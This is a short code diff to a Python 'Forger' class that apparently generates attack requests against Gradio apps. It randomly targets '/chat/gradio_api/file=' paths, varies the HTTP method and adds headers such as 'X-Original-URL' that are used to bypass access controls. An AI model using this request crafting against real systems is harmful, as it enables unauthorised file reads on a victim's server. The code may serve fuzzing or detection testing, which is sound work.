@@ -430,6 +430,8 @@ class Forger:
             f"/chat/gradio_api/stream/{self.target.victim['session']}/0/0/",
             "/v1/models/",
         )
+        if self.random.random() < 0.4:  # the straight way
+            way, name = self.pick("/chat/gradio_api/file=", "/chat/gradio_api/file/"), self.pick(path, name)
         path = (way + name).replace(" ", "%20").replace("\r", "").replace("\n", "")
         headers = self.pick({}, {"Range": "bytes=0-5"}, {"X-Original-URL": path})
         return self.request(self.pick("GET", "GET", "HEAD", "POST"), path, headers=headers)
